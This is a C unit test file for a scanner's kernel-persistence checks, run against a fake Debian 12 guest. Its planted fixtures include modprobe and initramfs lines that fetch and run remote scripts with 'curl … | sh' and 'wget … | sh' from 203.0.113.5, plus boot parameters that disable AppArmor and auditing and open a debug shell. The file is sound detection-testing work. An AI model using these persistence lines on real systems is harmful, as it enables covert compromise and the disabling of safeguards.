/* SPDX-License-Identifier: BSD-3-Clause */
/* Unit tests: the kernel persistence checks (checks/kernel.c) on a fake
 * Debian 12 guest whose stock files a dpkg database owns with their
 * digests: the clean tree gives nothing above info, each planted item
 * its finding (check id, category, path, severity, evidence, technique),
 * hostile files give errors rows, not crashes. */
#include <config.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "check-harness.h"
#include "base/hash.h"
#include "core/pkgdb.h"
#include "tap.h"
#include "base/util.h"

/* A minimal ELF64 relocatable header, what a .ko starts with; the rest
 * of each module's content makes it distinct. */
static const char elf_rel[64] =
  "\177ELF\2\1\1\0\0\0\0\0\0\0\0\0"
  "\1\0\76\0\1\0\0\0\0\0\0\0\0\0\0\0";

static char *
module_bytes (const char *tag, size_t *len)
{
  size_t tl = strlen (tag);
  char *b = vs_xmalloc (sizeof elf_rel + tl);

  memcpy (b, elf_rel, sizeof elf_rel);
  memcpy (b + sizeof elf_rel, tag, tl);
  *len = sizeof elf_rel + tl;
  return b;
}

struct pf {
  const char *pkg;
  const char *path;             /* as the package lists it */
  const char *content;          /* NULL: a module made from the path */
  mode_t mode;
  int conffile;
};

#define KVER "6.1.0-18-amd64"

static const struct pf debian[] = {
  { "kmod", "/lib/modprobe.d/aliases.conf",
    "# These are the standard aliases\nalias net-pf-10 ipv6\n"
    "options snd-pcsp index=-2\nsoftdep uhci-hcd pre: ehci-hcd\n", 0644, 0 },
  { "kmod", "/lib/modprobe.d/fbdev-blacklist.conf",
    "blacklist arkfb\nblacklist aty128fb\n", 0644, 0 },
  { "kmod", "/etc/modprobe.d/stock-install.conf",
    "install pcspkr /sbin/modprobe --ignore-install pcspkr $CMDLINE_OPTS\n",
    0644, 1 },
  { "systemd", "/lib/modprobe.d/systemd.conf",
    "options bonding max_bonds=0\noptions dummy numdummies=0\n", 0644, 0 },
  { "systemd", "/usr/lib/modules-load.d/stock.conf", "# none\nloop\n", 0644,
    0 },
  { "linux-image-" KVER, "/lib/modules/" KVER "/kernel/fs/ext4/ext4.ko",
    NULL, 0644, 0 },
  { "linux-image-" KVER,
    "/lib/modules/" KVER "/kernel/drivers/net/virtio_net.ko.xz", NULL, 0644,
    0 },
  { "linux-image-" KVER, "/lib/modules/" KVER "/kernel/drivers/block/loop.ko",
    NULL, 0644, 0 },
  { "initramfs-tools", "/etc/initramfs-tools/initramfs.conf",
    "MODULES=most\nBUSYBOX=auto\nCOMPRESS=zstd\n", 0644, 1 },
  { "initramfs-tools", "/etc/initramfs-tools/modules",
    "# List of modules that you want to include in your initramfs.\n"
    "# raid1\n", 0644, 1 },
  { "initramfs-tools-core", "/usr/share/initramfs-tools/hooks/fsck",
    "#!/bin/sh\nPREREQ=\"\"\n. /usr/share/initramfs-tools/hook-functions\n"
    "copy_exec /sbin/fsck\n", 0755, 0 },
  { "initramfs-tools-core", "/usr/share/initramfs-tools/scripts/local",
    "# Local filesystem mounting\nlocal_mount_root()\n{\n"
    "  mount ${roflag} ${ROOT} ${rootmnt}\n}\n", 0644, 0 },
  { "udev", "/usr/share/initramfs-tools/scripts/init-top/udev",
    "#!/bin/sh -e\n/lib/systemd/systemd-udevd --daemon --resolve-names=never\n",
    0755, 0 },
  { "grub-common", "/etc/grub.d/10_linux",
    "#! /bin/sh\nset -e\n", 0755, 1 },
};

static char *
content_of (const struct pf *f, size_t *len)
{
  if (!f->content)
    return module_bytes (f->path, len);
  *len = strlen (f->content);
  return vs_xstrdup (f->content);
}

static const char grub_default[] =
  "# If you change this file, run 'update-grub' afterwards\n"
  "GRUB_DEFAULT=0\nGRUB_TIMEOUT=5\n"
  "GRUB_DISTRIBUTOR=`lsb_release -i -s 2> /dev/null || echo Debian`\n"
  "GRUB_CMDLINE_LINUX_DEFAULT=\"quiet\"\nGRUB_CMDLINE_LINUX=\"\"\n";

static const char grub_cfg[] =
  "menuentry 'Debian GNU/Linux' --class debian {\n"
  "\tinsmod ext2\n"
  "\tlinux\t/boot/vmlinuz-" KVER " root=UUID=0b1c ro console=tty0 "
  "console=ttyS0,115200 earlyprintk=ttyS0,115200 consoleblank=0\n"
  "\tinitrd\t/boot/initrd.img-" KVER "\n}\n"
  "menuentry 'Debian GNU/Linux, with Linux " KVER " (recovery mode)' {\n"
  "\tlinux\t/boot/vmlinuz-" KVER " root=UUID=0b1c ro single "
  "console=tty0 console=ttyS0,115200\n}\n";

static void
build_debian (struct vs_test_guest *t)
{
  static const char *const pkgs[] = {
    "kmod", "systemd", "linux-image-" KVER, "initramfs-tools",
    "initramfs-tools-core", "udev", "grub-common",
  };
  struct vs_test_pkgfile owned[VS_ARRAY_SIZE (debian)];
  size_t i;

  vs_test_symlink (t, "/bin", "usr/bin");
  vs_test_symlink (t, "/sbin", "usr/sbin");
  vs_test_symlink (t, "/lib", "usr/lib");
  vs_test_mkdir (t, "/usr/bin", 0755);
  vs_test_write (t, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n",
                 0644);
  for (i = 0; i < VS_ARRAY_SIZE (debian); i++) {
    owned[i].pkg = debian[i].pkg;
    owned[i].path = debian[i].path;
    owned[i].data = content_of (&debian[i], &owned[i].len);
    owned[i].conffile = debian[i].conffile;
  }
  vs_test_dpkg (t, pkgs, VS_ARRAY_SIZE (pkgs), owned, VS_ARRAY_SIZE (owned),
                "/.\n/usr\n", NULL, NULL);
  for (i = 0; i < VS_ARRAY_SIZE (owned); i++)
    free ((char *) owned[i].data);
  for (i = 0; i < VS_ARRAY_SIZE (debian); i++) {
    const struct pf *f = &debian[i];
    size_t len;
    char *data = content_of (f, &len);
    char *path = strncmp (f->path, "/lib/", 5) == 0
      ? vs_xasprintf ("/usr%s", f->path) : vs_xstrdup (f->path);

    vs_test_write_len (t, path, data, len, f->mode);
    free (path);
    free (data);
  }
  /* What a stock system has that no package owns. */
  vs_test_write (t, "/etc/modules",
                 "# /etc/modules: kernel modules to load at boot time.\n"
                 "#\n# This file contains the names of kernel modules that "
                 "should be loaded\n", 0644);
  vs_test_symlink (t, "/etc/modules-load.d/modules.conf", "../modules");
  vs_test_write (t, "/usr/lib/modules/" KVER "/modules.dep",
                 "kernel/fs/ext4/ext4.ko:\n", 0644);
  vs_test_write (t, "/etc/default/grub", grub_default, 0644);
  vs_test_write (t, "/etc/default/grub.d/10_cloud.cfg",
                 "GRUB_CMDLINE_LINUX_DEFAULT=\"console=tty0 "
                 "console=ttyS0,115200 earlyprintk=ttyS0,115200 "
                 "consoleblank=0\"\nGRUB_TIMEOUT=0\n", 0644);
  vs_test_write (t, "/boot/grub/grub.cfg", grub_cfg, 0644);
  vs_test_write (t, "/boot/grub/grubenv",
                 "# GRUB Environment Block\n#####################\n", 0644);
}

static void
load (struct vs_test_guest *t)
{
  char *note = NULL;

  if (vs_pkgdb_load (t->ctx.guest, t->ctx.os, vs_check_pkgdb_error, &t->ctx,
                     &t->ctx.pkgdb, &note) == -1)
    printf ("# pkgdb load failed\n");
  free (note);
}

static void
write_module (struct vs_test_guest *t, const char *path)
{
  size_t len;
  char *b = module_bytes (path, &len);

  vs_test_write_len (t, path, b, len, 0644);
  free (b);
}

static void
plant (struct vs_test_guest *t)
{
  char *big;
  size_t i;

  write_module (t, "/usr/lib/modules/" KVER "/kernel/drivers/net/e1000x.ko");
  write_module (t, "/var/tmp/.x/rk.ko");
  for (i = 0; i < 25; i++) {
    char *p = vs_xasprintf ("/usr/lib/modules/6.1.99-custom/kernel/m%zu.ko",
                            i);

    write_module (t, p);
    free (p);
  }
  write_module (t, "/usr/lib/modules/" KVER "/updates/dkms/zfs.ko");
  write_module (t, "/var/lib/dkms/zfs/2.1.11/" KVER "/x86_64/module/zfs.ko");
  vs_test_write (t, "/usr/lib/modules/" KVER
                 "/kernel/drivers/net/virtio_net.ko.xz",
                 "\177ELF trojaned", 0644);
  vs_test_write (t, "/etc/modules-load.d/net.conf",
                 "# network\ne1000x\nloop\ndiamorphine\n", 0644);
  vs_test_write (t, "/etc/modprobe.d/usb.conf",
                 "install usb-storage /bin/sh -c 'curl -s "
                 "http://203.0.113.5/k | sh'; /sbin/modprobe "
                 "--ignore-install usb-storage\n"
                 "install cramfs /bin/true\n"
                 "install foo \\\n  /usr/local/sbin/setup-foo\n"
                 "softdep ext4 pre: e1000x\n"
                 "options md_mod start_ro=1\nblacklist pcspkr\n", 0644);
  vs_test_write (t, "/etc/initramfs-tools/hooks/zz-net",
                 "#!/bin/sh\n. /usr/share/initramfs-tools/hook-functions\n"
                 "copy_exec /usr/local/bin/netd /bin\n", 0755);
  vs_test_write (t, "/etc/initramfs-tools/scripts/init-bottom/persist",
                 "#!/bin/sh\nwget -q -O- http://203.0.113.5/p | sh\n",
                 0755);
  vs_test_write (t, "/usr/lib/dracut/modules.d/99net/module-setup.sh",
                 "#!/bin/bash\ninstall() {\n  inst_simple /usr/local/bin/x\n"
                 "}\n", 0755);
  vs_test_write (t, "/etc/default/grub.d/99-x.cfg",
                 "GRUB_CMDLINE_LINUX=\"$GRUB_CMDLINE_LINUX "
                 "init=/usr/local/bin/x apparmor=0\"\n", 0644);
  vs_test_write (t, "/boot/loader/entries/debian.conf",
                 "title Debian\nlinux /vmlinuz\n"
                 "options root=/dev/vda1 rw systemd.debug_shell audit=0 "
                 "mitigations=off\n", 0644);
  /* Hostile input. */
  big = vs_xmalloc ((5u << 20) + 1);
  memset (big, '#', 5u << 20);
  big[5u << 20] = '\0';
  vs_test_write (t, "/etc/modprobe.d/huge.conf", big, 0644);
  free (big);
  vs_test_write_len (t, "/etc/modprobe.d/binary.conf",
                     "install \xff\0x /bin/\x80sh\n\\", 22, 0644);
  vs_test_symlink (t, "/etc/modprobe.d/loop.conf", "loop.conf");
  vs_test_mkdir (t, "/etc/modprobe.d/dir.conf", 0755);
}

/* Persistence findings matching all of the given fields (evidence: a
 * substring). */
#define nfind(t, check, sev, path, ev, mitre) \
  vs_test_nfind (t, "persistence", check, sev, path, ev, mitre)

static int
run (struct vs_test_guest *t)
{
  return vs_check_family (&t->ctx, VS_FAM_KERNEL);
}

#define KM "persistence.kernel-module-unowned"
#define ML "persistence.kernel-modules-load"
#define MP "persistence.modprobe"
#define IR "persistence.initramfs"
#define BC "persistence.boot-cmdline"
#define MODDIR "/usr/lib/modules/" KVER

int
main (void)
{
  struct vs_test_guest t;

  tap_plan (37);

  vs_test_guest_init (&t);
  build_debian (&t);
  vs_test_guest_scan (&t, "debian", "deb");
  load (&t);
  tap_ok (t.ctx.pkgdb != NULL, "clean: the dpkg database loads");
  tap_ok (run (&t) == 0, "clean: the checks run");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE "
                         "severity_rank >= 1") == 0,
          "clean: nothing above info");
  if (vs_test_count (&t, "SELECT count(*) FROM findings") != 0)
    vs_test_dump_findings (&t);
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE check_id = "
                         "'" MP "' AND severity = 'info' AND path = "
                         "'/etc/modprobe.d/stock-install.conf'") == 1,
          "clean: a packaged install line is info");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM check_runs WHERE "
                         "check_id IN ('" KM "', '" ML "', '" MP "', '" IR
                         "', '" BC "') AND status = 'ran' AND items > 0")
          == 5, "clean: the five checks ran and examined something");
  tap_ok (vs_test_count (&t, "SELECT items FROM check_runs WHERE check_id = "
                         "'" KM "'") == 3, "clean: three module files");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM errors") == 0,
          "clean: no errors");
  vs_test_guest_free (&t);

  vs_test_guest_init (&t);
  build_debian (&t);
  plant (&t);
  vs_test_guest_scan (&t, "debian", "deb");
  load (&t);
  tap_ok (run (&t) == 0, "planted: the checks run");
  tap_ok (nfind (&t, KM, "high", MODDIR "/kernel/drivers/net/e1000x.ko",
                 "not from a package", "T1547.006") == 1,
          "unowned module in the kernel's tree is high");
  tap_ok (nfind (&t, KM, "high", "/var/tmp/.x/rk.ko", "sha256 ",
                 "T1547.006") == 1
          && vs_test_count (&t, "SELECT count(*) FROM findings WHERE path = "
                            "'/var/tmp/.x/rk.ko' AND instr(title, 'outside "
                            "the module directories') > 0") == 1,
          "module under /var/tmp is high, outside the module directories");
  tap_ok (nfind (&t, KM, "medium", MODDIR "/updates/dkms/zfs.ko",
                 "DKMS has a build record", "T1547.006") == 1,
          "unowned module DKMS built is medium");
  tap_ok (nfind (&t, KM, "low", "/var/lib/dkms/zfs/2.1.11/" KVER
                 "/x86_64/module/zfs.ko", "not from a package",
                 "T1547.006") == 1, "the DKMS build record itself is low");
  tap_ok (nfind (&t, KM, "high", MODDIR "/kernel/drivers/net/virtio_net.ko.xz",
                 "modified since package linux-image-" KVER,
                 "T1547.006") == 1, "modified packaged module is high");
  tap_ok (nfind (&t, ML, "high", "/etc/modules-load.d/net.conf",
                 "module file " MODDIR "/kernel/drivers/net/e1000x.ko",
                 "T1547.006") == 1,
          "modules-load.d entry loading the unowned module is high");
  tap_ok (nfind (&t, ML, "medium", "/etc/modules-load.d/net.conf",
                 "line 3: loop", "T1547.006") == 1,
          "stock module from a file no package owns is medium");
  tap_ok (nfind (&t, ML, "high", "/etc/modules-load.d/net.conf",
                 "line 4: diamorphine", "T1547.006") == 1,
          "rootkit name in modules-load.d is high");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE check_id "
                         "= '" ML "' AND path = "
                         "'/usr/lib/modules-load.d/stock.conf'") == 0,
          "stock modules-load.d file loading a stock module: nothing");
  tap_ok (nfind (&t, MP, "high", "/etc/modprobe.d/usb.conf",
                 "line 1: install usb-storage /bin/sh -c 'curl -s",
                 "T1547.006") == 1,
          "install line running curl | sh is high");
  tap_ok (nfind (&t, MP, "low", "/etc/modprobe.d/usb.conf",
                 "install cramfs /bin/true", "T1547.006") == 1,
          "install line that only disables a module is low");
  tap_ok (nfind (&t, MP, "medium", "/etc/modprobe.d/usb.conf",
                 "line 3: install foo   /usr/local/sbin/setup-foo",
                 "T1547.006") == 1,
          "continued install line not from a package is medium, from line 3");
  tap_ok (nfind (&t, MP, "high", "/etc/modprobe.d/usb.conf",
                 "softdep ext4 pre: e1000x", "T1547.006") == 1,
          "softdep pulling in the unowned module is high");
  tap_ok (nfind (&t, IR, "medium", "/etc/initramfs-tools/hooks/zz-net",
                 "copy_exec /usr/local/bin/netd", "T1037") == 1,
          "initramfs hook no package owns is medium");
  tap_ok (nfind (&t, IR, "high",
                 "/etc/initramfs-tools/scripts/init-bottom/persist",
                 "wget -q -O- http://203.0.113.5/p | sh", "T1037") == 1,
          "initramfs script that downloads and runs is high");
  tap_ok (nfind (&t, IR, "medium",
                 "/usr/lib/dracut/modules.d/99net/module-setup.sh",
                 "inst_simple /usr/local/bin/x", "T1037") == 1,
          "dracut module no package owns is medium");
  tap_ok (nfind (&t, BC, "high", "/etc/default/grub.d/99-x.cfg",
                 "init=/usr/local/bin/x apparmor=0", "T1037") == 1,
          "init= to another program in GRUB_CMDLINE_LINUX is high");
  tap_ok (nfind (&t, BC, "medium", "/etc/default/grub.d/99-x.cfg",
                 "init=/usr/local/bin/x apparmor=0", "T1562.001") == 1,
          "apparmor=0 is medium");
  tap_ok (nfind (&t, BC, "high", "/boot/loader/entries/debian.conf",
                 "systemd.debug_shell", "T1037") == 1,
          "debug shell in a loader entry is high");
  tap_ok (nfind (&t, BC, "medium", "/boot/loader/entries/debian.conf",
                 "audit=0", "T1562.012") == 1,
          "audit=0 in a loader entry is medium");
  tap_ok (nfind (&t, BC, "low", "/boot/loader/entries/debian.conf",
                 "mitigations=off", "T1562.001") == 1,
          "mitigations=off is low");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE path IN "
                         "('/boot/grub/grub.cfg', '/etc/default/grub', "
                         "'/etc/default/grub.d/10_cloud.cfg')") == 0,
          "stock cloud parameters and the recovery entry's single: nothing");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM errors WHERE path IN "
                         "('/etc/modprobe.d/huge.conf', "
                         "'/etc/modprobe.d/dir.conf', "
                         "'/etc/modprobe.d/loop.conf')") >= 1
          && vs_test_count (&t, "SELECT count(*) FROM errors WHERE path = "
                            "'/etc/modprobe.d/huge.conf'") == 1,
          "a huge modprobe.d file is an errors row");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE path = "
                         "'/etc/modprobe.d/binary.conf' AND instr(evidence, "
                         "x'ff5c30') > 0") == 1,
          "binary install line: bytes kept, NUL shown as \\0");
  tap_ok (vs_test_count (&t, "SELECT count(*) FROM findings WHERE "
                         "severity_rank >= 2 AND check_id LIKE "
                         "'persistence.%'") == 19,
          "planted: 19 findings at medium or above, no more");
  tap_ok (nfind (&t, KM, "medium", "/usr/lib/modules/6.1.99-custom",
                 "25 module files under /usr/lib/modules/6.1.99-custom, "
                 "none from a package", "T1547.006") == 1
          && vs_test_count (&t, "SELECT count(*) FROM findings WHERE path "
                            "LIKE '/usr/lib/modules/6.1.99-custom/%'") == 0,
          "a whole kernel no package installed is one medium finding");
  if (getenv ("VS_TEST_DUMP"))
    vs_test_dump_findings (&t);
  vs_test_guest_free (&t);

  /* Without a package database: modules in the module directories
   * cannot be judged, those elsewhere can. */
  vs_test_guest_init (&t);
  build_debian (&t);
  plant (&t);
  vs_test_guest_scan (&t, "debian", "deb");
  tap_ok (run (&t) == 0, "no package database: the checks run");
  tap_ok (nfind (&t, KM, "high", "/var/tmp/.x/rk.ko", "no package database",
                 "T1547.006") == 1
          && vs_test_count (&t, "SELECT count(*) FROM findings WHERE "
                            "check_id = '" KM "' AND path LIKE "
                            "'/usr/lib/modules/%'") == 0,
          "no package database: only the module outside the module "
          "directories is reported");
  tap_ok (nfind (&t, MP, "high", "/etc/modprobe.d/usb.conf",
                 "install usb-storage", "T1547.006") == 1
          && nfind (&t, MP, "low", "/etc/modprobe.d/usb.conf",
                    "install foo", "T1547.006") == 1,
          "no package database: malicious install line high, others low");
  vs_test_guest_free (&t);
  return tap_done ();
}
